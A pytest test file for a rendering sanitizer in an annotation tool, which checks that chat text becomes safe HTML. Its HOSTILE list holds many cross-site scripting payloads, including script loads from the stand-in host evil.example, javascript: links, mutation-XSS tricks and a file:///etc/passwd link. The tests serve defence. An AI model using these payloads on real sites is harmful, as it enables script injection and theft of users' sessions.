"""Rendering: nothing hostile comes through, and nothing that a rater should judge disappears."""

import html as html_module
from html.parser import HTMLParser

import pytest

from annotate.rendering import _MATH_ATTRIBUTES, MAX_MARKDOWN, Picture, image_sources, render, render_raw

OURS = "class data-code data-lang dir href rel start tabindex title xmlns src alt width height loading"
ALLOWED_ATTRIBUTES = set(OURS.split()) | set(_MATH_ATTRIBUTES)
TAG_NAMES = (
    "a bdi blockquote br code del div em h3 h4 h5 h6 hr img li ol p pre s span strong table tbody td th thead tr ul "
    "math menclose mfenced mfrac mi mmultiscripts mn mo mover mpadded mprescripts mroot mrow ms mspace msqrt mstyle "
    "msub msubsup msup mtable mtd mtext mtr munder munderover none"
)
ALLOWED_TAGS = set(TAG_NAMES.split())


class Reader(HTMLParser):
    """An independent reading of what we emit: the tags with their attributes, and the text between."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came through: {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction came through: {data!r}")

    @property
    def text(self) -> str:
        return "".join(self.words)


def assert_harmless(html: str) -> Reader:
    reader = Reader(html)
    for tag, attributes in reader.tags:
        assert tag in ALLOWED_TAGS, tag
        assert set(attributes) <= ALLOWED_ATTRIBUTES, attributes
        if "href" in attributes:
            assert (attributes["href"] or "").lower().startswith(("http://", "https://", "mailto:")), attributes
            assert attributes["rel"] == "noopener nofollow noreferrer"
        if "src" in attributes:
            assert attributes["src"] == OUR_IMAGE
        for value in attributes.values():
            assert "<" not in (value or "")
            assert ">" not in (value or "")
    return reader


OUR_IMAGE = "/p/chat/images/7/"
SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    SCRIPT,
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button form=answer formaction=//evil.example>submit</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<div style=background:url(javascript:alert(1))>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<p hx-get='/admin/' hx-trigger=load>x</p>",
    "<p data-hx-post='/sign-out/' data-hx-trigger=load>x</p>",
    "<p id=comparison>a second one</p>",
    "<a name=location>clobber</a><img name=cookie>",
    "<x onclick=alert(1) tabindex=1 autofocus>x</x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<frameset onload=alert(1)>",
    "<portal src=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<bdo dir=rtl>reversed</bdo>",
    "<\x01script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/admin/logout/)",
    "[x](\\\\evil.example\\share)",
    "[x](https:evil.example)",
    "[x](https://user:secret@evil.example/)",
    '[x](https://evil.example/"onmouseover=alert(1)//)',
    '[x](https://evil.example/ "title" onmouseover=alert(1))',
    "[x](https://evil.example/'><script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![<script>alert(1)</script>](https://evil.example/x)",
    '![x](https://evil.example/a.png "\'><script>alert(1)</script>")',
    "[![x](x onerror=alert(1))](https://a.example)",
    f"`{SCRIPT}`",
    f"```html\n{SCRIPT}\n```",
    f"```{SCRIPT}\nx\n```",
    '```python" onmouseover="alert(1)\nx = 1\n```',
    '``` x"><img/src=x/onerror=alert(1)>\ny\n```',
    f"    {SCRIPT}",
    f"$\\text{{{SCRIPT}}}$",
    f"$$\\text{{{SCRIPT}}}$$",
    f"\\(\\text{{{SCRIPT}}}\\)",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$\\text{<style><img src=x onerror=alert(1)></style>}$",
    "$\\class{hero}{x}\\cssId{comparison}{y}\\style{color:red}{z}$",
    '$\\color{red" onclick="alert(1)}{x}$',
    '$\\hspace{1em" onclick="alert(1)}x$',
    '$\\begin{array}{c" onclick="alert(1)}x\\end{array}$',
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "$a<script>alert(1)</script>b$",
    f"| a |\n|---|\n| {SCRIPT} |",
    f"# {SCRIPT}",
    f"- {SCRIPT}",
    f"> {SCRIPT}",
    f"**{SCRIPT}**",
    f"~~{SCRIPT}~~",
    "{{ settings.SECRET_KEY }} {% debug %}",
    "\u202e<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_harmless_markup(text: str) -> None:
    assert_harmless(render(text).html)
    assert_harmless(render_raw(text).html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_harmless_after_other_markup(text: str) -> None:
    assert_harmless(render(f"$x$ *a* `b`\n\n{text}\n\n```python\n{text}\n```\n\n| {text} |\n|---|\n").html)


@pytest.mark.parametrize(
    "text",
    [
        SCRIPT,
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](/admin/)",
        "![alt](https://a.example/b.png)",
    ],
)
def test_what_is_refused_is_shown_as_text_instead_of_vanishing(text: str) -> None:
    words = assert_harmless(render(text).html).text
    for part in ("alert(1)", "/admin/", "https://a.example/b.png"):
        assert (part in text) == (part in words)


def test_raw_shows_the_text_exactly() -> None:
    text = "  # not *rendered*\r\n\t<b>&amp;\n"
    assert Reader(render_raw(text).html).text == text


def test_code_keeps_its_indentation_blank_lines_and_tabs() -> None:
    code = "\n\ndef f(x):\n    if x:\n\treturn {\n        'a':  1,\n    }\n\n"
    for language in ("python", "", "no-such-language"):
        assert Reader(render(f"```{language}\n{code}```").html).text.strip("\n") == code.strip("\n")
    assert Reader(render("```python\n" + code + "```").html).text.startswith(code)


def test_code_of_a_known_language_is_coloured_by_classes_only() -> None:
    html = render("```python\nimport os\n```").html
    assert '<span class="kn">import</span>' in html
    assert 'data-lang="python"' in html
    assert "style" not in html


def test_code_beyond_the_cap_is_shown_without_colours() -> None:
    html = render("```python\n" + "import os\n" * 5_001 + "```").html  # 5,001 lines of 10 characters
    assert "<span" not in html
    assert html.count("import os") == 5_001


def test_a_list_sixty_levels_deep_loses_no_text() -> None:
    # Every level takes two of the parser's 100, so a list of 60 does not fit: it must be Raw, not cut off.
    text = "\n".join("  " * level + f"- item {level}" for level in range(60))
    words = Reader(render(text).html).text
    assert all(f"item {level}" in words for level in range(60))


def test_a_list_forty_levels_deep_is_rendered_whole() -> None:
    text = "\n".join("  " * level + f"- item {level}" for level in range(40))
    result = render(text)
    assert result.mode == "markdown"
    assert result.html.count("<li>") == 40
    assert all(f"item {level}" in result.html for level in range(40))


@pytest.mark.parametrize("text", ["> " * 150 + "the end", "- " * 150 + "the end", "1. " * 150 + "the end"])
def test_what_is_nested_beyond_the_parser_is_raw_and_whole(text: str) -> None:
    result = render(text)
    assert result.mode == "raw"
    assert "the end" in result.html


@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000,
        "![" * 50_000,
        "[x](" * 20_000,
        "_a" * 30_000,
        "$a " * 30_000,
        "<a href=" * 20_000,
        "[a]: https://x.example/" + "a" * 9_000 + "\n\n" + "[a] " * 9_000,  # 80 MB of addresses
    ],
)
def test_pathological_markup_falls_back_to_raw_and_says_so(text: str) -> None:
    result = render(text)
    assert result.mode == "raw"
    assert "intricate" in result.note
    assert html_module.unescape(result.html) == f'<pre class="raw">{text}</pre>'


def test_a_text_beyond_the_cap_is_raw_and_says_so() -> None:
    assert render("x" * MAX_MARKDOWN).mode == "markdown"
    result = render("x" * (MAX_MARKDOWN + 1))
    assert result.mode == "raw"
    assert f"{MAX_MARKDOWN:,}" in result.note


@pytest.mark.parametrize(
    "text", [r"$\frac{1}{2}$", r"\(\frac{1}{2}\)", r"inline $$\frac{1}{2}$$ display", "$$\n\\frac{1}{2}\n$$"]
)
def test_formulas_become_mathml(text: str) -> None:
    html = render(text).html
    assert "<mfrac><mrow><mn>1</mn></mrow><mrow><mn>2</mn></mrow></mfrac>" in html
    assert "$" not in html


def test_a_bracketed_display_formula_is_set_as_a_block() -> None:
    assert 'display="block"' in render("so\n\\[\nx^2\n\\]\n").html


@pytest.mark.parametrize(
    "formula", [r"\frac{1}", r"\left( x", r"\begin{matrix} 1", "x" * 4_001, "{" * 1_900 + "}" * 1_900]
)
def test_a_formula_that_cannot_be_set_is_shown_as_its_source(formula: str) -> None:
    reader = Reader(render(f"${formula}$").html)
    assert formula in reader.text or "math" in [tag for tag, _ in reader.tags]


def test_money_is_not_mathematics() -> None:
    assert Reader(render("It costs $5 and then $6.").html).text.strip() == "It costs $5 and then $6."


def test_a_formula_cannot_hide_its_content() -> None:
    html = render(r"$\color{white}{secret} \phantom{ghost}$").html
    assert "mathcolor" not in html
    assert "mphantom" not in html


def test_tables_scroll_in_their_own_box_and_can_be_reached_by_keyboard() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n").html
    assert html.startswith('<div class="table-scroll" tabindex="0"><table dir="auto">')
    assert '<td>1</td>\n<td class="right">2</td>' in html


def test_headings_stand_below_those_of_the_page() -> None:
    html = render("# one\n\n## two\n\n###### six\n").html
    assert "<h3>one</h3>" in html
    assert "<h4>two</h4>" in html
    assert "<h6>six</h6>" in html


def test_line_breaks_stay_where_the_writer_put_them() -> None:
    assert "<br>" in render("roses are red\nviolets are blue").html


def test_absolute_links_work_and_tell_the_target_nothing() -> None:
    html = render("[a](https://example.org/x?y=1#z) <mailto:a@example.org>").html
    assert 'href="https://example.org/x?y=1#z"' in html
    assert html.count('rel="noopener nofollow noreferrer"') == 2


@pytest.mark.parametrize(
    ("character", "name"),
    [
        ("\u202e", "RIGHT-TO-LEFT OVERRIDE"),
        ("\u2066", "LEFT-TO-RIGHT ISOLATE"),
        ("\u200b", "ZERO WIDTH SPACE"),
        ("\ufeff", "ZERO WIDTH NO-BREAK SPACE"),
        ("\u00ad", "SOFT HYPHEN"),
        ("\U000e0041", "TAG LATIN CAPITAL LETTER A"),
        ("\u200d", "ZERO WIDTH JOINER"),
    ],
)
@pytest.mark.parametrize("frame", ["a{}b", "`a{}b`", "```\na{}b\n```", "# a{}b", "$a{}b$", "| a{}b |\n|---|"])
def test_invisible_characters_are_marked_by_name_wherever_they_stand(character: str, name: str, frame: str) -> None:
    html = render(frame.format(character)).html
    mark = f'<bdi class="invisible" title="{name}" data-code="U+{ord(character):04X}">{character}</bdi>'
    assert mark in html
    assert character not in html.replace(mark, "")
    assert_harmless(html)


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("a\u200b\u200b\u200bb", ["U+200B ×3"]),
        ("\u05d0\u200f!", ["U+200F"]),
        ("\x1b[31mred\x1b[0m", ["U+001B", "U+001B"]),
        ("a\x08b\x9bc\x7f", ["U+0008", "U+009B", "U+007F"]),
        ("a\u200cb", ["U+200C"]),  # a joiner between Latin letters is no spelling
        ("\u0645\u06cc\u200c\u200c\u062e", ["U+200C"]),  # the first one is Persian, the second one is not
        ("\u65e5\u200d\u672c", ["U+200D"]),
        ("a\ufe0f", ["U+FE0F"]),  # a selector with nothing to select from
        ("\u2764\ufe0f\ufe01\ufe02", ["U+FE01", "U+FE02"]),  # and those that ride on a heart
        ("\U0001f600\U000e0101\U000e0155", ["U+E0101", "U+E0155"]),
        ("\U0001f3f4\U000e0041\U000e0042", ["U+E0041", "U+E0042"]),  # tags that end no flag
        ("a\u034fb\u180eb\u17b4", ["U+034F", "U+180E", "U+17B4"]),
    ],
)
def test_what_nobody_sees_is_marked_where_it_is_no_spelling(text: str, marked: list[str]) -> None:
    reader = assert_harmless(render(text).html)
    assert [of["data-code"] for tag, of in reader.tags if tag == "bdi"] == marked
    assert reader.text.strip() == text  # a copy is true to the source


def test_thousands_of_invisible_characters_cost_a_bounded_page() -> None:
    assert len(render("\u200b" * 200_000).html) < 250_000
    html = render("a\u200b" * 100_000).html
    assert len(html) < 50 * 100_000
    assert html.count("<bdi") == 100_000
    assert html.count("title=") == 2_000


@pytest.mark.parametrize(
    "text",
    [
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian: the non-joiner is spelling
        "\u0915\u094d\u200d\u0937",  # Devanagari: the joiner is spelling
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",  # a family, one emoji of three
        "\u2764\ufe0f\u200d\U0001f525 1\ufe0f\u20e3 \U0001f44d\U0001f3fd",  # a heart on fire, a key, a brown thumb
        "\U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",  # the flag of Wales, spelt in tags
        "\u845b\U000e0100\u57ce \u9f8d\ufe00",  # variants of ideographs, as names need them
        "\u182d\u180b\u1820",  # Mongolian
        "\u1000\ufe00",  # Khamti Shan
        "\u65e5\u672c\u8a9e\u306e\u6587\u7ae0\u3002\u4e2d\u6587\uff0c\ud55c\uad6d\uc5b4",
        "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    ],
)
def test_other_scripts_come_through_unchanged(text: str) -> None:
    html = render(text).html
    assert Reader(html).text.strip() == text
    assert "<bdi" not in html


def test_rendering_is_a_function_of_the_text_alone() -> None:
    text = "# a\n\n```python\nx\n```\n\n$x$ | \u202e"
    assert render(text) == render(text)


# Images


READY = {"https://a.example/b.png": Picture("/p/chat/images/7/", 640, 480)}


def test_an_image_that_is_here_is_shown_from_our_own_address_at_its_size() -> None:
    reader = assert_harmless(render('a ![a *cat*](https://a.example/b.png "Tom") b', READY).html)
    assert [of for tag, of in reader.tags if tag == "img"] == [
        {
            "alt": "a *cat*", "title": "Tom", "src": OUR_IMAGE, "width": "640", "height": "480", "loading": "lazy",
        }
    ]  # fmt: skip


def test_an_image_that_is_not_here_is_told_with_its_source_and_why() -> None:
    html = render(
        "![a cat](https://a.example/b.png)", {"https://a.example/b.png": Picture(why="The host is down.")}
    ).html
    reader = assert_harmless(html)
    assert reader.text.strip() == "[image: a cat] (https://a.example/b.png) The host is down."
    assert "img" not in [tag for tag, _ in reader.tags]


@pytest.mark.parametrize(
    "url", ["https://a.example/b.png", "//a.example/p/x/images/1/", "/p/x/images/1/?next=//a", "/a/"]
)
def test_no_other_address_than_our_own_ever_becomes_an_image(url: str) -> None:
    assert "src" not in render("![a](https://a.example/b.png)", {"https://a.example/b.png": Picture(url, 1, 1)}).html


def test_the_words_of_an_image_can_neither_hide_nor_break_out() -> None:
    text = '![x" onerror="xss() <b> \u202e \u200b](https://a.example/b.png "a\u200bb")'
    reader = assert_harmless(render(text, READY).html)
    [image] = [of for tag, of in reader.tags if tag == "img"]
    assert image["alt"] == 'x" onerror="xss() ‹b› [U+202E] [U+200B]'
    assert image["title"] == "a[U+200B]b"


def test_the_sources_of_a_text_are_those_that_are_rendered() -> None:
    upload = f"upload:{'0a' * 32}"
    text = (
        f"![a](https://a.example/1) ![b][r] `![no](https://a.example/2)` ![c]({upload})\n\n[r]: https://a.example/3\n"
    )
    text += "\n| ![d](https://a.example/1) |\n|---|\n\n[![e](https://a.example/4)](https://a.example/5) ![f](data:x)\n"
    wanted = ["https://a.example/1", "https://a.example/3", upload, "https://a.example/4"]
    assert image_sources(text) == wanted
    html = render(text, {source: Picture(f"/p/chat/images/{n}/", 1, 1) for n, source in enumerate(wanted)}).html
    assert html.count("<img ") == 5
    assert image_sources("no image, [only](https://a.example/1) a link!") == []
    assert image_sources("![" * 50_000) == []


def test_a_link_to_an_upload_leads_nowhere_and_is_shown() -> None:
    upload = f"upload:{'0a' * 32}"
    reader = assert_harmless(render(f"[*here*]({upload}) [there](https://a.example/)").html)
    assert f"[here]({upload}) there" in reader.text
    assert [of["href"] for tag, of in reader.tags if tag == "a"] == ["https://a.example/"]


# What Markdown would hide


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("[//]: # (a comment that nobody sees)", "a comment that nobody sees"),
        ('> [x]:\n> https://a.example/\n> "a title"\n\nfor [x]', "a title"),
        ("| a |\n|---|\n| 1 | beyond | the `edge` |", "beyond"),
        ("> | a | b |\n> |---|---|\n> | 1 | 2 | beyond |", "beyond"),
        ('```python "a label with quotes" and more than forty characters of it\nx = 1\n```', "more than forty"),
        ("```a\u200bb\nx\n```", "a\u200bb"),
    ],
)
def test_what_markdown_would_drop_stays_in_sight(text: str, hidden: str) -> None:
    assert hidden in assert_harmless(render(text).html).text


def test_a_links_definition_still_defines() -> None:
    html = render("see [it][1]\n\n[1]: https://a.example/\n").html
    assert '<a href="https://a.example/" rel="noopener nofollow noreferrer">it</a>' in html
    assert '<p class="definition">[1]: https://a.example/</p>' in html


def test_a_row_of_the_right_length_is_left_alone() -> None:
    html = render("| a | b |\n|---|---|\n| 1 | 2 |\n| 3 |\n").html
    assert html.count("<td>") == 4
    assert " | " not in html


# Bounds


@pytest.mark.parametrize(
    "text",
    [
        "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + ("|" + "b|" * 2_000 + "\n") * 40,
        "|a|\n|-|\n" + "|b|\n" * 45_000,
        "a\n" * 100_000,
        "# a\n" * 50_000,
    ],
)
def test_a_text_of_too_many_parts_is_raw(text: str) -> None:
    assert render(text).mode == "raw"


@pytest.mark.parametrize(
    "text",
    [
        "x" * 200_000,
        ("a" + "\u0301" * 50) * 3_900,
        "\x1b[31mred\x1b[0m " * 12_000,
        "日本語の文章。" * 28_000,
        ("```python\n" + "def f(x):\n    return [y for y in x]  # c\n" * 80 + "```\n\n") * 45,
        "\n\n".join(
            "Some *emphasis*, `code`, a [link](https://a.example/) and more of the same words." * 3 for _ in range(800)
        ),
    ],
)
def test_two_hundred_thousand_characters_lose_nothing(text: str) -> None:
    shown = Reader(render(text).html).text
    letters = [c for c in text if c.isalpha() and c.isascii()]
    assert (
        sum(1 for c in shown if c.isalpha() and c.isascii()) >= len(letters) * 0.6
    )  # marks and addresses are no words
    for word in ("red", "def", "more", "xx", "日本語"):
        assert shown.count(word) == text.count(word)


@pytest.mark.parametrize("size", ["99999em", "-9em", "1e9em", "100px", "-.5em", "0x10em"])
def test_a_formula_cannot_reach_out_of_its_place(size: str) -> None:
    html = render(f"$a\\hspace{{{size}}}b$ $\\rule{{{size}}}{{{size}}}$").html
    assert size not in Reader(html).text or 'class="tex"' in html
    assert not [of for tag, of in Reader(html).tags if size in of.values()]


def test_a_long_formula_scrolls_on_a_line_of_its_own() -> None:
    assert '<span class="math" tabindex="0"><math' in render(f"so ${'a+' * 40}b$ holds").html
    assert "tabindex" not in render("so $a+b$ holds").html


def test_lists_quotes_and_tables_have_a_direction_of_their_own() -> None:
    html = render("Latin.\n\n- שלום\n- עולם\n\n> שלום\n\n1. א\n\n| א |\n|---|\n").html
    for tag in ("ul", "blockquote", "ol", "table"):
        assert f'<{tag} dir="auto">' in html


@pytest.mark.parametrize(
    "text", [r"$\text{<script>a</script>}$", r"$\mbox{<math><mtext>a}$", r"\(\text{<b>a</b> < c}\)"]
)
def test_what_looks_like_a_tag_in_a_formula_is_its_text(text: str) -> None:
    reader = assert_harmless(render(text).html)
    assert text[text.index("<") : text.rindex("}")] in reader.text.replace("\xa0", " ")
    assert [tag for tag, _ in reader.tags].count("math") == 1


def test_comparisons_in_a_formula_are_operators() -> None:
    html = render("$a<b>c$").html
    assert "<mi>a</mi><mo>&lt;</mo><mi>b</mi><mo>&gt;</mo><mi>c</mi>" in html
    assert "\ue000" in render("$a\ue000<b$").html.replace("&lt;", "<")
